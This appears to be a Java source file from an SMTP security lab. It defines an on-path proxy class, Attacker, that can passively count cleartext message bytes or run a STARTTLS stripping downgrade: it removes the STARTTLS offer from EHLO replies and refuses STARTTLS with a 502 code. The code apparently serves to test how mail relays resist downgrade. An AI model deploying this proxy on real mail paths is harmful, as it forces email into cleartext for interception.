package org.postseal.lab;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Locale;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import org.postseal.wire.LineReader;

/**
 * Sits on the path between the relay and a host and passes on what both say. Counts every octet of
 * a message that it can read. What it does beyond that is its {@link Tactic}.
 */
public final class Attacker implements AutoCloseable {

    private static final int LINE_OCTETS_MAX = 1 << 20;

    /** What an attacker on the path does. */
    public enum Tactic {
        /** Reads. */
        LISTEN,
        /** Takes STARTTLS out of what the host offers, and refuses it for the host when asked. */
        STRIP_STARTTLS
    }

    private final Tactic tactic;
    private final InetSocketAddress target;
    private final Acceptor acceptor;
    private final AtomicLong clearOctets = new AtomicLong();
    private final AtomicInteger connections = new AtomicInteger();
    private final AtomicInteger strips = new AtomicInteger();

    private Attacker(Tactic tactic, InetSocketAddress at, InetSocketAddress target)
            throws IOException {
        this.tactic = tactic;
        this.target = target;
        acceptor = Acceptor.start(at, "attacker", this::stand);
    }

    /**
     * @param at where the relay believes the host to be; port 0 for a free one
     * @param target where the host is
     * @throws IOException when the port is not free
     */
    public static Attacker start(Tactic tactic, InetSocketAddress at, InetSocketAddress target)
            throws IOException {
        return new Attacker(tactic, at, target);
    }

    public Tactic tactic() {
        return tactic;
    }

    public InetSocketAddress address() {
        return acceptor.address();
    }

    /** Octets of messages that passed in the clear: headers and bodies, not commands. */
    public long clearOctets() {
        return clearOctets.get();
    }

    /** How many connections went through here. */
    public int connections() {
        return connections.get();
    }

    /** How often an offer of STARTTLS was taken away. */
    public int strips() {
        return strips.get();
    }

    private void stand(Socket client) throws IOException {
        connections.incrementAndGet();
        try (Socket server = new Socket()) {
            server.connect(target);
            server.setSoTimeout(client.getSoTimeout());
            new Path(client, server).run();
        }
    }

    /** One connection through the attacker, command by command until there is only ciphertext. */
    private final class Path {
        private final Socket client;
        private final Socket server;
        private final LineReader fromClient;
        private final LineReader fromServer;

        Path(Socket client, Socket server) throws IOException {
            this.client = client;
            this.server = server;
            fromClient = new LineReader(client.getInputStream());
            fromServer = new LineReader(server.getInputStream());
        }

        void run() throws IOException {
            passReply(false);
            while (true) {
                String command = fromClient.readText(LINE_OCTETS_MAX);
                String verb = command.split(" ", 2)[0].toUpperCase(Locale.ROOT);
                if (verb.equals("STARTTLS") && tactic == Tactic.STRIP_STARTTLS) {
                    write(client, "502 5.5.1 command not implemented");
                    continue;
                }
                write(server, command);
                if (verb.equals("BDAT")) {
                    passChunk(Integer.parseInt(command.split(" ", -1)[1]));
                }
                String code = passReply(verb.equals("EHLO"));
                if (verb.equals("DATA") && code.equals("354")) {
                    passMessage();
                    passReply(false);
                } else if (verb.equals("STARTTLS") && code.equals("220")) {
                    passCiphertext();
                    return;
                } else if (verb.equals("QUIT")) {
                    return;
                }
            }
        }

        /** Passes one reply on, all its lines. Returns its code. */
        private String passReply(boolean isEhlo) throws IOException {
            StringBuilder kept = new StringBuilder();
            while (true) {
                String line = fromServer.readText(LINE_OCTETS_MAX);
                boolean isLast = line.length() < 4 || line.charAt(3) != '-';
                boolean isOffer = isEhlo && line.substring(3).strip().matches("-?STARTTLS");
                if (isOffer && tactic == Tactic.STRIP_STARTTLS) {
                    strips.incrementAndGet();
                    if (isLast) {
                        kept.append("250 HELP\r\n");
                    }
                } else {
                    kept.append(line).append("\r\n");
                }
                if (isLast) {
                    client.getOutputStream()
                            .write(kept.toString().getBytes(StandardCharsets.UTF_8));
                    return line.substring(0, Math.min(3, line.length()));
                }
            }
        }

        private void passChunk(int octets) throws IOException {
            byte[] chunk = new byte[octets];
            fromClient.readFully(chunk, 0, octets);
            clearOctets.addAndGet(octets);
            server.getOutputStream().write(chunk);
        }

        private void passMessage() throws IOException {
            while (true) {
                byte[] line = fromClient.readLine(LINE_OCTETS_MAX);
                write(server, line);
                if (line.length == 1 && line[0] == '.') {
                    return;
                }
                clearOctets.addAndGet(line.length + 2L);
            }
        }

        private void passCiphertext() throws IOException {
            Thread back = Thread.startVirtualThread(() -> pump(fromServer, server, client));
            pump(fromClient, client, server);
            try {
                back.join();
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
        }
    }

    /** Until one end closes; then the other is told. */
    private static void pump(LineReader reader, Socket from, Socket to) {
        byte[] octets = new byte[16_384];
        try {
            OutputStream out = to.getOutputStream();
            while (reader.isPipelined()) {
                out.write(reader.read());
            }
            while (true) {
                int count = from.getInputStream().read(octets);
                if (count < 0) {
                    break;
                }
                out.write(octets, 0, count);
            }
            to.shutdownOutput();
        } catch (IOException e) {
            closeBoth(from, to);
        }
    }

    private static void closeBoth(Socket one, Socket other) {
        try (one;
                other) {
            one.setSoLinger(true, 0);
        } catch (IOException e) {
            throw new IllegalStateException("cannot close a path of the lab", e);
        }
    }

    private static void write(Socket to, String line) throws IOException {
        write(to, line.getBytes(StandardCharsets.UTF_8));
    }

    private static void write(Socket to, byte[] line) throws IOException {
        byte[] whole = Arrays.copyOf(line, line.length + 2);
        whole[line.length] = '\r';
        whole[line.length + 1] = '\n';
        to.getOutputStream().write(whole);
    }

    @Override
    public void close() throws IOException {
        acceptor.close();
    }
}
